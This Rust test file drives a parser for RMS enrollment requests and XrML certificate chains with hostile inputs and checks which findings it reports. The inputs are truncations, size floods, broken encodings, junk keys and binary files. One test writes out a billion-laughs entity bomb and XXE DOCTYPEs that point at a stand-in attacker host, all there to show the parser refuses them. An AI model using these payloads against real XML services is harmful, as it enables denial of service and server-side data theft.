//! Hostile input: a corpus of more than 50 damaged files, made here from the generator's
//! vectors by fixed rules (nothing hand-edited; the 100 MB and 10⁶-attribute files are built
//! in memory rather than committed). Each yields its specific findings, within its budget,
//! without panicking. The truncation test alone asserts at least 40 cuts; the other tests
//! list their cases.
#![allow(
    clippy::panic,
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing
)]

mod common;

use common::{data, test_policy as policy};
use slc_courier_core::finding::{codes, Code, Code::*};
use slc_courier_core::policy::{MAX_CERT_BYTES, MAX_REQUEST_BYTES};
use slc_courier_core::xml::{Budget as XmlBudget, XmlError};
use slc_courier_core::xrml::{Found, KeyProblem, PartyRole, SignatureValue};
use slc_courier_core::{check_request, verify_chain, What};

fn request_codes(bytes: &[u8]) -> Vec<Code> {
    codes(&check_request(bytes, Some("RMS01EnrollRequest.xml")).findings)
}

/// The typed XrML finding with `code` among a chain's findings.
#[track_caller]
fn xrml_found(bytes: &[u8], code: Code) -> Found {
    let r = verify_chain(bytes, &policy(), None);
    match r.findings.iter().find(|f| f.code == code).map(|f| f.what()) {
        Some(What::Xrml(x)) => x.clone(),
        other => panic!("no typed {code} finding: {other:?}"),
    }
}

fn chain_codes(bytes: &[u8]) -> Vec<Code> {
    let r = verify_chain(bytes, &policy(), None);
    assert!(
        r.verdict().outcome == slc_courier_core::chain::Outcome::NotValid
            || codes(&r.findings)
                .iter()
                .all(|c| c.severity() != slc_courier_core::Severity::Error)
    );
    codes(&r.findings)
}

/// A chain whose SLC cannot be read: that is an error, and what remains has no SLC (the
/// enrollment service certificate is never taken as the leaf), so it is never judged genuine.
const DAMAGED_SLC: &[Code] = &[XrmlNotWellFormed, SignatureSha1Legacy, ChainNoSlc];

/// Deterministic pseudo-random bytes (xorshift), for "binary file" cases.
fn junk(len: usize, mut seed: u64) -> Vec<u8> {
    (0..len)
        .map(|_| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            (seed >> 24) as u8
        })
        .collect()
}

#[test]
fn request_truncated_at_every_structural_boundary() {
    let good = data("request/good/RMS01EnrollRequest.xml");
    let text = String::from_utf8(good.clone()).unwrap();
    let root_end = text.rfind("</EnrollParameters>").unwrap();
    let mut cases = 0;
    for (i, b) in text.bytes().enumerate() {
        // Cut just before every '<' and just after every '>' inside the document.
        let cuts = match b {
            b'<' => vec![i],
            b'>' => vec![i + 1],
            _ => vec![],
        };
        for cut in cuts {
            if cut == 0 || cut > root_end {
                continue;
            }
            assert_eq!(
                request_codes(&good[..cut]),
                vec![Truncated],
                "cut at {cut}: {:?}",
                &text[cut.saturating_sub(20)..cut]
            );
            cases += 1;
        }
    }
    assert!(cases >= 40, "{cases} truncations");
}

#[test]
fn chain_truncated_at_every_document_boundary_and_inside() {
    let good = data("chain/good/sha1-compact.xml");
    let text = String::from_utf8(good.clone()).unwrap();
    let ends: Vec<usize> = text.match_indices("</XrML>").map(|(i, _)| i + 7).collect();
    assert_eq!(
        chain_codes(&good[..ends[0]]),
        vec![SignatureSha1Legacy, ChainIncomplete]
    );
    assert_eq!(
        chain_codes(&good[..ends[1]]),
        vec![SignatureSha1Legacy, ChainIncomplete]
    );
    assert_eq!(
        chain_codes(&good[..ends[2]]),
        vec![SignatureSha1Legacy, ChainIncomplete]
    );
    // Inside the last certificate: it is reported, and the chain is incomplete without it.
    assert_eq!(
        chain_codes(&good[..ends[3] - 100]),
        vec![XrmlUnterminated, SignatureSha1Legacy, ChainIncomplete]
    );
    // Inside the SLC's BODY: no SLC remains.
    assert_eq!(chain_codes(&good[..400]), vec![XrmlUnterminated]);
}

#[test]
fn budgets_bound_hostile_requests() {
    let good = String::from_utf8(data("request/good/RMS01EnrollRequest.xml")).unwrap();
    let with_name = |inner: &str| {
        good.replacen("<Name>RMS01</Name>", &format!("<Name>{inner}</Name>"), 1)
            .into_bytes()
    };
    // Deep nesting: 10,000 levels.
    assert_eq!(
        request_codes(&with_name(&format!(
            "{}{}",
            "<a>".repeat(10_000),
            "</a>".repeat(10_000)
        ))),
        vec![XmlBudgetExceeded]
    );
    // 19,000 duplicated and 900 unexpected siblings: one finding each, not thousands.
    let dup = good.replacen(
        "<Version>",
        &format!(
            "{}{}<Version>",
            "<SKU>x</SKU>".repeat(19_000),
            "<Extra/>".repeat(900)
        ),
        1,
    );
    assert_eq!(
        request_codes(dup.as_bytes()),
        vec![DuplicateElement, UnexpectedElement]
    );
    // 30,000 sibling elements.
    assert_eq!(
        request_codes(&with_name(&"<a/>".repeat(30_000))),
        vec![XmlBudgetExceeded]
    );
    // 10⁶ attributes on one element (about 10 MB, over the request size budget).
    let attrs: String = (0..1_000_000).map(|i| format!(" a{i}=\"\"")).collect();
    let many = good
        .replacen("<Name>", &format!("<Name{attrs}>"), 1)
        .into_bytes();
    assert!(many.len() > MAX_REQUEST_BYTES);
    assert_eq!(request_codes(&many), vec![InputTooLarge]);
    // …and 10⁶ attributes as a chain file (inside the certificate budget): refused by the attribute budget.
    let chain = String::from_utf8(data("chain/good/sha1-compact.xml")).unwrap();
    let bloated = chain
        .replacen("<ISSUEDTIME>", &format!("<ISSUEDTIME{attrs}>"), 1)
        .into_bytes();
    assert!(bloated.len() < MAX_CERT_BYTES);
    assert_eq!(chain_codes(&bloated), DAMAGED_SLC);
    let slc_start = chain.find("<XrML").unwrap();
    assert_eq!(
        xrml_found(&bloated, XrmlNotWellFormed),
        Found::NotWellFormed {
            document: 0,
            error: Box::new(XmlError::Budget {
                pos: chain.find("<ISSUEDTIME>").unwrap() - slc_start,
                budget: XmlBudget::Attributes {
                    element: "ISSUEDTIME".into(),
                    limit: 64,
                },
            }),
        }
    );
    // 65 attributes in a request: over the per-element budget.
    let some: String = (0..65).map(|i| format!(" a{i}=\"\"")).collect();
    assert_eq!(
        request_codes(
            &good
                .replacen("<Name>", &format!("<Name{some}>"), 1)
                .into_bytes()
        ),
        vec![XmlBudgetExceeded]
    );
    // 100 MB: refused before reading, by both entry points.
    let huge = vec![b'<'; 100 * 1024 * 1024];
    assert_eq!(request_codes(&huge), vec![InputTooLarge]);
    assert_eq!(chain_codes(&huge), vec![InputTooLarge]);
}

#[test]
fn entity_and_doctype_tricks_are_refused() {
    let good = String::from_utf8(data("request/good/RMS01EnrollRequest.xml")).unwrap();
    let laughs = "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\"><!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">]>\n";
    let cases: Vec<(Vec<u8>, Vec<Code>)> = vec![
        (
            good.replacen(
                "<EnrollParameters",
                &format!("{laughs}<EnrollParameters"),
                1,
            )
            .replacen("RMS01</Name>", "&lol3;</Name>", 1)
            .into_bytes(),
            vec![DoctypeRefused],
        ),
        (
            good.replacen(
                "<EnrollParameters",
                "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"http://attacker.test/x\">]>\n<EnrollParameters",
                1,
            )
            .into_bytes(),
            vec![DoctypeRefused],
        ),
        (
            good.replacen(
                "<EnrollParameters",
                "<!DOCTYPE x SYSTEM \"http://attacker.test/x.dtd\">\n<EnrollParameters",
                1,
            )
            .into_bytes(),
            vec![DoctypeRefused],
        ),
        (
            good.replacen("RMS01</Name>", "&xxe;</Name>", 1)
                .into_bytes(),
            vec![XmlMalformed],
        ),
        (
            good.replacen("RMS01</Name>", "&#82;MS01</Name>", 1)
                .into_bytes(),
            vec![],
        ),
        (
            good.replacen("RMS01</Name>", "<![CDATA[RMS01]]></Name>", 1)
                .into_bytes(),
            vec![],
        ),
    ];
    for (i, (bytes, expected)) in cases.iter().enumerate() {
        assert_eq!(&request_codes(bytes), expected, "case {i}");
    }
    let chain = String::from_utf8(data("chain/good/sha1-compact.xml")).unwrap();
    let doctype = format!("{laughs}{chain}");
    // The chain reader never expands a DOCTYPE, but another reader would apply its
    // declarations (attribute defaults, entities) to the documents: refused.
    assert_eq!(
        chain_codes(doctype.as_bytes()),
        vec![DoctypeRefused, SignatureSha1Legacy, AnchorTest]
    );
    let inside = chain.replacen(
        "<ISSUEDTIME>",
        "<!DOCTYPE x [<!ENTITY a \"b\">]><ISSUEDTIME>",
        1,
    );
    // Refused in the file, and the damaged SLC is an error; what remains does not start like
    // an SLC chain.
    assert_eq!(
        chain_codes(inside.as_bytes()),
        [&[DoctypeRefused][..], DAMAGED_SLC].concat()
    );
    assert_eq!(
        xrml_found(inside.as_bytes(), XrmlNotWellFormed),
        Found::NotWellFormed {
            document: 0,
            error: Box::new(XmlError::Doctype {
                pos: inside.find("<!DOCTYPE").unwrap() - inside.find("<XrML").unwrap(),
            }),
        }
    );
}

#[test]
fn broken_encodings() {
    let good = data("request/good/RMS01EnrollRequest.xml");
    let at = good.windows(5).position(|w| w == b"RMS01").unwrap();
    let splice = |bad: &[u8]| [&good[..at], bad, &good[at..]].concat();
    let cases: Vec<(&str, Vec<u8>, Vec<Code>)> = vec![
        ("overlong UTF-8", splice(&[0xC0, 0xAF]), vec![InvalidUtf8]),
        (
            "UTF-8 surrogate",
            splice(&[0xED, 0xA0, 0x80]),
            vec![InvalidUtf8],
        ),
        ("lone continuation byte", splice(&[0x80]), vec![InvalidUtf8]),
        ("Latin-1 byte", splice(&[0xE9]), vec![InvalidUtf8]),
        (
            "truncated UTF-8 sequence at the end",
            [&good[..], &[0xE2, 0x82][..]].concat(),
            vec![InvalidUtf8, TrailingJunk],
        ),
        (
            "UTF-8 BOM twice",
            [&[0xEF, 0xBB, 0xBF, 0xEF, 0xBB, 0xBF][..], &good[..]].concat(),
            vec![Utf8Bom, NonAscii, LeadingJunk],
        ),
    ];
    for (what, bytes, expected) in &cases {
        assert_eq!(&request_codes(bytes), expected, "{what}");
    }
    let text = String::from_utf8(good.clone()).unwrap();
    let mut utf16: Vec<u8> = vec![0xFF, 0xFE];
    for u in text.encode_utf16() {
        utf16.extend_from_slice(&u.to_le_bytes());
    }
    // A lone surrogate in UTF-16: decoded as U+FFFD, reported as non-ASCII.
    let pos = 2 + text.find("RMS01").unwrap() * 2;
    let mut lone = utf16.clone();
    lone.splice(pos..pos, [0x00, 0xD8]);
    assert_eq!(request_codes(&lone), vec![Utf16Encoded, NonAscii]);
    // An odd number of UTF-16 bytes (the last byte cut off).
    let odd = &utf16[..utf16.len() - 1];
    assert_eq!(request_codes(odd), vec![Utf16Encoded, Truncated]);
    // UTF-32 is not UTF-16: NUL bytes everywhere.
    let utf32: Vec<u8> = text
        .chars()
        .flat_map(|c| (c as u32).to_le_bytes())
        .collect();
    // The root's name holds NULs: not an XML name, refused at its start tag, before the
    // first NUL.
    assert_eq!(request_codes(&utf32), vec![XmlMalformed, NulBytes]);
}

/// A request that no namespace-aware XML reader accepts is `xml-malformed`, whatever makes it
/// so: a name, a prefix, a reserved declaration, a comment or a stray `]]>`.
#[test]
fn requests_xml_readers_refuse_are_malformed() {
    let good = String::from_utf8(data("request/good/RMS01EnrollRequest.xml")).unwrap();
    let at = "<RevocationInformation>";
    assert!(good.contains(at));
    for insert in [
        "<1x/>",
        "<p:x/>",
        "<x p:k=\"v\"/>",
        "<x xmlns:xml=\"urn:x\"/>",
        "<x xmlns:xmlns=\"urn:x\"/>",
        "<!-- a -- b -->",
        "]]>",
    ] {
        let bytes = good.replacen(at, &format!("{insert}{at}"), 1);
        assert_eq!(
            request_codes(bytes.as_bytes()),
            vec![XmlMalformed],
            "{insert}"
        );
    }
}

#[test]
fn junk_keys_and_signatures() {
    let good = String::from_utf8(data("request/good/RMS01EnrollRequest.xml")).unwrap();
    let key_start = good.find("<aPublicKeyBytes>").unwrap() + "<aPublicKeyBytes>".len();
    let key_end = good.find("</aPublicKeyBytes>").unwrap();
    let key = &good[key_start..key_end];
    let with_key = |k: &str| good.replacen(key, k, 1).into_bytes();
    assert_eq!(
        request_codes(&with_key(&format!("{key}===="))),
        vec![KeyBase64Invalid]
    );
    assert_eq!(
        request_codes(&with_key(&key.replace('A', "-"))),
        vec![KeyBase64Invalid]
    );
    assert_eq!(
        request_codes(&with_key(&format!(
            "\n      {}\n      {}\n    ",
            &key[..64],
            &key[64..]
        ))),
        vec![],
        "wrapped base64 is fine"
    );
    assert_eq!(request_codes(&with_key("")), vec![KeyFormatUnknown]);
    assert_eq!(
        request_codes(&with_key(&key[..key.len() - 8])),
        vec![KeyFormatUnknown],
        "valid base64 of a cut key"
    );
    // Keys of the wrong size, from the generator's keys.
    let rms02 = String::from_utf8(data("request/good/RMS02EnrollRequest.xml")).unwrap();
    assert_eq!(request_codes(rms02.as_bytes()), vec![]);
    let chain = String::from_utf8(data("chain/good/sha1-compact.xml")).unwrap();
    // The SLC's own SIGNATURE/VALUE (after its DIGEST).
    let sig = chain.find("</DIGEST>").unwrap();
    let sig = sig + chain[sig..].find("size=\"1024\">").unwrap() + 12;
    let junk_sig = format!("{}@@@@{}", &chain[..sig], &chain[sig + 4..]);
    assert_eq!(
        chain_codes(junk_sig.as_bytes()),
        vec![SignatureBase64Invalid, SignatureSha1Legacy, AnchorTest]
    );
    assert_eq!(
        xrml_found(junk_sig.as_bytes(), SignatureBase64Invalid),
        Found::SignatureBase64Invalid {
            document: 0,
            element: SignatureValue::Value,
        }
    );
    let short_sig = format!("{}{}", &chain[..sig], &chain[sig + 8..]);
    assert_eq!(
        chain_codes(short_sig.as_bytes()),
        vec![SignatureInvalid, SignatureSha1Legacy, AnchorTest]
    );
    let modulus = chain.find("size=\"1024\">").unwrap() + 12;
    let junk_modulus = format!("{}!!{}", &chain[..modulus], &chain[modulus + 2..]);
    // The SLC's issuer key is unreadable: its signature cannot be checked and the path stops
    // at the SLC; the document's own error says why, and it decides.
    let r = verify_chain(junk_modulus.as_bytes(), &policy(), None);
    assert_eq!(
        codes(&r.findings),
        vec![XrmlKeyUnreadable, SignatureSha1Legacy]
    );
    assert_eq!(r.chain, vec![0]);
    assert_eq!(r.verdict().reason, Some(XrmlKeyUnreadable));
    assert_eq!(
        xrml_found(junk_modulus.as_bytes(), XrmlKeyUnreadable),
        Found::KeyUnreadable {
            document: 0,
            party: PartyRole::Issuer,
            reason: KeyProblem::ModulusNotBase64,
        }
    );
}

#[test]
fn tiny_binary_and_foreign_files() {
    let png = [&b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"[..], &junk(2000, 7)].concat();
    let zip = [&b"PK\x03\x04\x14\x00\x06\x00"[..], &junk(500, 11)].concat();
    let pdf = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n".to_vec();
    // (what, bytes, request codes, chain codes)
    type Case = (&'static str, Vec<u8>, Vec<Code>, Vec<Code>);
    let cases: Vec<Case> = vec![
        ("0 bytes", vec![], vec![RequestEmpty], vec![NoXrmlFound]),
        (
            "1 byte <",
            b"<".to_vec(),
            vec![Truncated],
            vec![NoXrmlFound],
        ),
        (
            "1 byte x",
            b"x".to_vec(),
            vec![TextNotXml],
            vec![NoXrmlFound],
        ),
        ("1 NUL", vec![0], vec![TextNotXml], vec![NoXrmlFound]),
        (
            "whitespace only",
            b" \r\n\t".to_vec(),
            vec![RequestBlank],
            vec![NoXrmlFound],
        ),
        ("PNG renamed .xml", png, vec![BinaryFile], vec![NoXrmlFound]),
        (
            "ZIP (a .docx) renamed",
            zip,
            vec![BinaryFile],
            vec![NoXrmlFound],
        ),
        ("PDF", pdf, vec![BinaryFile], vec![NoXrmlFound]),
        (
            "random bytes",
            junk(4096, 99),
            vec![BinaryFile],
            vec![NoXrmlFound],
        ),
        (
            "an HTML error page",
            b"<!DOCTYPE html><html><body><h1>Server Error in '/' Application.</h1></body></html>"
                .to_vec(),
            vec![HtmlWrapper],
            vec![NoXrmlFound],
        ),
        (
            "only <XrML",
            b"<XrML version=\"1.2\">".to_vec(),
            vec![CertificateNotRequest],
            vec![XrmlUnterminated],
        ),
        (
            "empty XrML",
            b"<XrML></XrML>".to_vec(),
            vec![CertificateNotRequest],
            vec![XrmlNoBody, ChainNoSlc],
        ),
    ];
    for (what, bytes, req, chain) in &cases {
        assert_eq!(&request_codes(bytes), req, "request: {what}");
        assert_eq!(&chain_codes(bytes), chain, "chain: {what}");
    }
    assert_eq!(
        xrml_found(b"<XrML></XrML>", XrmlNoBody),
        Found::NoBody { document: 0 }
    );
    assert_eq!(xrml_found(b"", NoXrmlFound), Found::FileEmpty);
    assert_eq!(
        xrml_found(b" \r\n\t", NoXrmlFound),
        Found::NoXrml { size: 4 }
    );
}
